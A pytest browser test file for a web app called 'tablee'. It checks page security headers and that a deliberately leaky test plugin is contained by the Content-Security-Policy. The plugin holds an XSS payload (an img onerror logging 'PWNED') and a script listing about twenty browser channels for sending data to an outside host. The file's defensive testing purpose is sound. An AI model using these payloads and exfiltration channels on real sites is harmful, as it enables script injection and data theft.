"""What a page may do: ours do all that they need, and what is hostile within them does nothing."""

from __future__ import annotations

import re
import threading
from collections import Counter
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Final

import httpx
import pytest
from playwright.sync_api import expect

from tablee.activities import Agenda, AgendaStep
from tablee.model.synthesis import Part
from tablee.registry import load
from tablee.sdk.demo import remade
from tablee.sdk.testing import facilitator_of
from tablee.session import Sessions
from tests.browser.support.room import PHONE, Screen
from tests.support.recording import Recorder
from tests.support.server import ROOT, Server

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

LAPTOP: Final = "laptop-of-the-facilitator"
NAIMA: Final = "phone-of-naima-0123456789"
TYPED: Final = """<img src=x onerror="console.log('PWNED')"><b>Le budget</b>"""
LEAKY: Final = """
from dataclasses import dataclass
from typing import ClassVar
from tablee.activities import Intro
from tablee.activities.hookspecs import hookimpl
from tablee.view import Component, Text

TYPED = %r

@dataclass(frozen=True)
class Leaky(Intro):
    name: ClassVar[str] = "leaky"
    title: ClassVar[str] = "Bavard"

    def view(self, step, audience):
        return Component("leaky.js", {"typed": TYPED, "to": %r}, Text("Tout est écrit ici."))

@hookimpl
def intros():
    return [Leaky]
"""
SCRIPT: Final = """
const ways = {
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  xhr: (to) => { const asked = new XMLHttpRequest(); asked.open("GET", to); asked.send(); },
  beacon: (to) => navigator.sendBeacon(to, "words"),
  socket: (to) => new WebSocket(to.replace("http", "ws")),
  events: (to) => new EventSource(to),
  image: (to) => { new Image().src = to; },
  script: (to) => element("script", { src: to }),
  module: (to) => import(to),
  frame: (to) => element("iframe", { src: to }),
  object: (to) => element("object", { data: to }),
  embed: (to) => element("embed", { src: to }),
  video: (to) => element("video", { src: to, autoplay: true }),
  sheet: (to) => element("link", { rel: "stylesheet", href: to }),
  preload: (to) => element("link", { rel: "preload", as: "image", href: to }),
  prefetch: (to) => element("link", { rel: "prefetch", href: to }),
  background: (to) => { element("p", {}).style.backgroundImage = `url(${to})`; },
  imports: (to) => { element("style", {}).textContent = `@import url(${to});`; },
  font: (to) => new FontFace("x", `url(${to})`).load(),
  worker: (to) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`importScripts("${to}")`])));
    worker.onerror = () => console.log("refused worker");
  },
  blob: (to) => import(URL.createObjectURL(new Blob([`fetch("${to}", { mode: "no-cors" })`],
    { type: "text/javascript" }))),
  form: (to) => {
    const form = element("form", { action: to, method: "post", target: "_self" });
    form.submit();
  },
};

function element(name, given) {
  const made = Object.assign(document.createElement(name), given);
  document.body.append(made);
  return made;
}

export function draw(data) {
  addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) => {
    console.log(`refused ${blockedURI.split("/")[3] || effectiveDirective}`);
  });
  for (const [name, way] of Object.entries(ways)) {
    try { Promise.resolve(way(`${data.to}/${name}`)).catch(() => {}); } catch {}
  }
  const typed = document.createElement("div");
  typed.innerHTML = data.typed;
  document.body.append(typed);
  return document.createElement("p");
}
"""

WAYS: Final = re.findall(r"^  (\w+): \(to\) =>", SCRIPT, re.MULTILINE)
UNNAMED: Final = {
    "blob": "script-src-elem",
    "embed": "object-src",
    "frame": "frame-src",
    "imports": "style-src-elem",
    "object": "object-src",
}
"""What a browser says of a way out whose address it does not tell, on some faces or on all."""


class Elsewhere:
    """Another machine, as far as a browser can tell: what arrives there."""

    def __init__(self) -> None:
        arrived = self.arrived = list[str]()

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                arrived.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_said: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@dataclass
class Place:
    """A server with the demo's session, published, and one whose running step leaks."""

    server: Server
    recorder: Recorder
    elsewhere: Elsewhere
    pages: dict[str, str] = field(default_factory=dict)
    """Each face of the demo's session, by name: its address."""
    leaky: str = ""
    leaky_wall: str = ""

    def at(self, browser: Browser, address: str, who: str = LAPTOP) -> Screen:
        """Somebody's page, by this address."""
        screen = Screen(browser, {"width": 1440, "height": 900} if who == LAPTOP else PHONE)
        if who:
            cookie = {"name": "tablee", "value": who, "url": self.server.url}
            screen.context.add_cookies([cookie])  # type: ignore[list-item] # a plain dict will do
        screen.page.goto(self.server.url + address)
        return screen


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    base, elsewhere = tmp_path_factory.mktemp("policy"), Elsewhere()
    (base / "plugins" / "leaky" / "assets").mkdir(parents=True)
    code = LEAKY % (TYPED, elsewhere.url)
    (base / "plugins" / "leaky" / "__init__.py").write_text(code, "utf-8")
    (base / "plugins" / "leaky" / "assets" / "leaky.js").write_text(SCRIPT, "utf-8")
    catalogue = load([ROOT / "plugins", base / "plugins"])
    assert catalogue.refusals == ()
    folder = base / "sessions"
    folder.mkdir()
    with remade(folder, catalogue) as demo:
        session = demo.session.id
    sessions = Sessions(folder, catalogue)
    room = sessions.get(session)
    me = facilitator_of(room)
    room.devices.enter(LAPTOP)
    room.people.join(NAIMA, "Naïma")
    made = room.publishing.publish(me, [step.id for step in room.agenda], Part.BOTH, indexed=False)
    agenda = Agenda("try", "Essai", "", (AgendaStep("leaky", 5),))
    other = sessions.create(LAPTOP, "Bavardages", agenda, facilitator="Yasmine")
    other.people.join(NAIMA, "Naïma")
    other.conduct.start(facilitator_of(other))
    pages = {
        "home": "/",
        "plugins": "/?page=plugins",
        "console": f"/?s={session}",
        "phone": f"/?s={session}",
        "synthesis": f"/?s={session}&page=synthesis",
        "draft": f"/?s={session}&page=review",
        "lost": "/?s=nothing",
        "wall": f"/w/{room.keys.wall}",
        "code": "/r",
        "join": f"/r/{room.keys.join}",
        "published": f"/s/{made.token}",
        "replay": f"/replay/{session}",
        "state": f"/status/{session}",
        "trial": "/test",
        "making": f"/export/{session}/pdf/progress",
        "gallery": "/gallery",
        "drawing": "/gallery/cards/example/wall",
        "error": "/w/nothing",
        "nowhere": "/nothing/at/all",
    }
    leaky, leaky_wall = f"/?s={other.session.id}", f"/w/{other.keys.wall}"
    sessions.close()
    recorder = Recorder(base / "recorder")
    environ = {"TABLEE_GALLERY": "1", "TABLEE_PLUGINS_DIR": str(base / "plugins")}
    server = Server(folder, environ | recorder.environ)
    server.start()
    yield Place(server, recorder, elsewhere, pages, leaky, leaky_wall)
    server.stop()
    recorder.close()
    elsewhere.server.shutdown()
    elsewhere.server.server_close()


THERE: Final = {
    "console": ".tb-part-view .tb-live *, .tb-part-view *",
    "phone": ".tb-part-view *",
    "wall": ".tb-wall *",
    "replay": ".tb-wall *",
    "drawing": ".tb-card",
}
"""What a face shows once all of it is there, where that is no heading."""
FACES: Final = (
    *("home", "plugins", "console", "phone", "synthesis", "draft", "lost", "wall", "code", "join"),
    *("published", "replay", "state", "trial", "making", "gallery", "drawing", "error", "nowhere"),
)


@pytest.mark.parametrize("face", FACES)
def test_a_face_does_all_that_it_needs_within_its_policy(
    place: Place, browser: Browser, face: str
) -> None:
    screen = place.at(browser, place.pages[face], NAIMA if face in ("phone", "join") else LAPTOP)
    expect(screen.page.locator(THERE.get(face, "h1")).first).to_be_visible()
    screen.still()
    assert screen.errors == []
    assert screen.outside == []
    assert place.recorder.outside == []
    screen.close()


@pytest.mark.parametrize("face", FACES)
def test_a_face_says_what_it_may_do_and_stands_in_no_frame(place: Place, face: str) -> None:
    answer = httpx.get(place.server.url + place.pages[face], cookies={"tablee": LAPTOP})
    told = answer.headers["content-security-policy"].split("; ")
    limits = {name: sources for name, _space, sources in (each.partition(" ") for each in told)}
    assert limits["default-src"] == limits["base-uri"] == "'none'"
    assert "unsafe" not in limits.get("script-src", "")
    outside = {"*", "http:", "https:", "ws:", "wss:"}
    assert not any(outside & set(sources.split()) for sources in limits.values())
    framed = face == "drawing"
    assert limits["frame-ancestors"] == ("'self'" if framed else "'none'")
    assert answer.headers["x-frame-options"] == ("SAMEORIGIN" if framed else "DENY")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] in ("same-origin", "no-referrer")
    assert "camera=(self)" in answer.headers["permissions-policy"]


def all_refused(said: list[str]) -> bool:
    """Whether the browser has said of each way out, and of what was typed, that it is refused."""
    told = Counter(line.removeprefix("refused ") for line in said if line.startswith("refused "))
    unnamed = [UNNAMED[way] for way in WAYS if way in UNNAMED and not told[way]]
    named = [way for way in WAYS if way not in UNNAMED]
    return told >= Counter([*named, *unnamed, "script-src-attr"])


@pytest.mark.parametrize("who", ["wall", "phone", "console"])
def test_a_component_sends_words_nowhere_and_runs_nothing_that_was_typed(
    place: Place, browser: Browser, who: str
) -> None:
    address = place.leaky_wall if who == "wall" else place.leaky
    screen = place.at(browser, address, {"wall": "", "phone": NAIMA, "console": LAPTOP}[who])
    while not all_refused(screen.said):
        screen.page.wait_for_event("console")
    assert place.elsewhere.arrived == []
    assert "PWNED" not in screen.said
    assert any("Content Security Policy" in error for error in screen.errors)
    screen.close()
